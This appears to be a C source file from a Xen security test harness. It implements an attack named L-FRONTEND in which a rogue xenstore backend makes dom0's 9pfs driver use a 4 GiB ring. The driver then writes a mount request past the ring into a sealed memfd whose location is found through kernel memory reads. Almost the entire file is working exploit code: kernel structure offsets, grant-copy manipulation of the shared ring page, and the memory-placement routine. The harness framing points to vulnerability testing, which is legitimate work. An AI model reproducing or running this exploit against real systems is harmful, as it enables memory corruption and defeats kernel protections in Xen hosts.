// SPDX-License-Identifier: GPL-2.0-only
/*
 * L-FRONTEND: be the backend of dom0's own 9pfs, and have it write where we
 * say.
 *
 * The kernel looks for devices of dom0's in xenstore as any guest's kernel
 * does, and root is whoever stands there as their backend. The 9pfs driver
 * keeps the size of its ring, and where it goes on writing, in the page that it
 * shares with its backend. With a size of 4 GiB it writes the request by which
 * a file system is mounted to any place up to 4 GiB behind the ring.
 *
 * Here that is a file that is sealed against writing, root's included. It is made
 * longer until a page of it lies behind the ring; /proc/kcore tells where that
 * is.
 *
 * The shared pages are reached by copies, because a PVH dom0 cannot map its own
 * grants.
 */
#include "store.h"

#include <fcntl.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>

#include <xen/gntdev.h>
#include <xen/grant_table.h>

#define FRONTEND "/local/domain/0/device/9pfs/0"
#define BACKEND  "/local/domain/0/rogue/9pfs"

/* ---- the shared pages ---- */

/* The first page, as xen/io/9pfs.h has it. */
struct interface {
    uint32_t in_cons, in_prod;
    uint8_t pad1[56];
    uint32_t out_cons, out_prod;
    uint8_t pad2[56];
    uint32_t order;
    grant_ref_t refs[4];
};

#define ORDER     2  /* four pages, of which two are the ring to the backend */
#define ALL_ORDER 21 /* a ring of 4 GiB, so that no bit of an index counts */

static bool copy(grant_ref_t ref, void *bytes, uint16_t size, bool write)
{
    struct gntdev_grant_copy_segment segment = {
        .len = size, .flags = write ? GNTCOPY_dest_gref : GNTCOPY_source_gref
    };
    struct ioctl_gntdev_grant_copy request = { 1, &segment };
    const int driver = open("/dev/xen/gntdev", O_RDWR | O_CLOEXEC);
    bool done;

    if ( write )
    {
        segment.source.virt = bytes;
        segment.dest.foreign.ref = ref;
    }
    else
    {
        segment.dest.virt = bytes;
        segment.source.foreign.ref = ref;
    }
    done = driver >= 0 && !ioctl(driver, IOCTL_GNTDEV_GRANT_COPY, &request) &&
           segment.status == GNTST_okay;
    if ( driver >= 0 )
        close(driver);

    return done;
}

/* ---- where things are in the kernel ---- */

/* In the driver's structures for a device and for a ring, and a ring's size. */
#define DEVICE_RINGS 40
#define RING_IN      32
#define RING_OUT     40
#define RING_SIZE    104

static uint64_t kernel_word(uint64_t address)
{
    uint64_t word = 0;

    read_kernel(address, &word, sizeof(word));
    return word;
}

/*
 * Where in the memory of dom0 the second ring to the backend is; 0 if unknown.
 * The first word of the driver's list leads to the device.
 */
static uint64_t ring_place(void)
{
    const uint64_t device = kernel_word(kernel_symbol("xen_9pfs_devs")),
                   ring = kernel_word(device + DEVICE_RINGS) + RING_SIZE,
                   in = kernel_word(ring + RING_IN),
                   out = kernel_word(ring + RING_OUT);

    return out == in + 2 * PAGE_SIZE
               ? out - kernel_word(kernel_symbol("page_offset_base"))
               : 0;
}

/* ---- the sealed file ---- */

#define PIECE  (1UL << 20)
#define PIECES 1024
/* Pages come in runs, of which one is looked at. */
#define RUN (16 * PAGE_SIZE)

/*
 * Make a file longer until a page of it lies behind @ring in memory. Returns how
 * far behind, 0 if there is no such page.
 */
static uint64_t page_behind(uint64_t ring, int file)
{
    static char zeros[PIECE];

    for ( off_t size = 0; size < (off_t)(PIECES * PIECE); size += PIECE )
    {
        const char *piece = write(file, zeros, PIECE) == PIECE
                                ? mmap(NULL, PIECE, PROT_READ,
                                       MAP_PRIVATE | MAP_POPULATE, file, size)
                                : MAP_FAILED;

        for ( size_t at = 0; piece != MAP_FAILED && at < PIECE; at += RUN )
        {
            const uint64_t place = own_page_number(piece + at) * PAGE_SIZE;

            if ( place > ring && place - ring < UINT32_MAX )
                return place - ring;
        }
    }

    return 0;
}

static bool seal(int file)
{
    return !fcntl(file, F_ADD_SEALS,
                  F_SEAL_WRITE | F_SEAL_GROW | F_SEAL_SHRINK | F_SEAL_SEAL) &&
           pwrite(file, "", 1, 0) < 0;
}

/* The request that 9pfs sends first ends so. */
static bool has_request(int file)
{
    static const char version[] = "9P2000.L";
    static char piece[PIECE];
    off_t at = 0;

    while ( pread(file, piece, PIECE, at) == PIECE )
        if ( memmem(piece, PIECE, version, sizeof(version) - 1) )
            return true;
        else
            at += PIECE;

    return false;
}

/* ---- the attack ---- */

/* Does the driver offer its rings to us? */
static bool attach_frontend(void)
{
    static const char *const backend[] = {
        "frontend",  FRONTEND, "frontend-id",         "0", "versions", "1",
        "max-rings", "2",      "max-ring-page-order", "2", "state",    "2",
        NULL
    };
    static const char *const frontend[] = { "backend", BACKEND, "backend-id",
                                            "0",       "tag",   "rogue",
                                            "state",   "1",     NULL };

    return (*store_read(FRONTEND "/state") ||
            (store_write_all(BACKEND, backend) &&
             store_write_all(FRONTEND, frontend))) &&
           store_shows(FRONTEND "/state", "3");
}

/* The call waits for an answer that never comes. */
static void mount_9pfs(void)
{
    mkdir("/9pfs", 0755);
    if ( !fork() )
    {
        mount("rogue", "/9pfs", "9p", 0, "trans=xen,version=9p2000.L");
        _exit(0);
    }
    rest(1000);
}

static enum outcome write_to_sealed(void)
{
    /* requests of the first kind have a tag that leads to the second ring */
    const grant_ref_t ref = (grant_ref_t)atoi(
        store_read(FRONTEND "/ring-ref1"));
    const int file = memfd_create("sealed", MFD_ALLOW_SEALING);
    struct interface *shared = buffer(PAGE_SIZE);
    const uint64_t ring = ring_place(),
                   distance = ring ? page_behind(ring, file) : 0;

    if ( !ring || !distance || !seal(file) || has_request(file) )
        return cannot_try("no sealed page behind the ring at %#lx", ring);
    if ( !copy(ref, shared, sizeof(*shared), false) || shared->order != ORDER )
        return cannot_try("no copy of the shared page");

    shared->order = ALL_ORDER;
    shared->out_cons = shared->out_prod = (uint32_t)distance;
    copy(ref, shared, sizeof(*shared), true);
    mount_9pfs();
    shared->order = ORDER;
    shared->out_cons = shared->out_prod = 0;
    copy(ref, shared, sizeof(*shared), true);

    if ( !has_request(file) )
        return cannot_try("9pfs serves us, and has not written to the file");

    return effect(true,
                  "a sealed file, %#lx bytes behind the ring, written "
                  "by 9pfs",
                  distance);
}

ATTACK_OWN_BOOT("L-FRONTEND",
                "have a frontend of dom0's write where its backend says")
{
    if ( access("/sys/bus/xen/drivers/9pfs", F_OK) )
        return cannot_try("the kernel has no 9pfs for Xen");
    if ( !serve_store() )
        return cannot_try("xenstore cannot be served");

    if ( attach_frontend() )
        return write_to_sealed();
    return access("/sys/bus/xen/devices/9pfs-0", F_OK)
               ? cannot_try("the kernel has not seen the device")
               : effect(false, "the driver does not take the device");
}
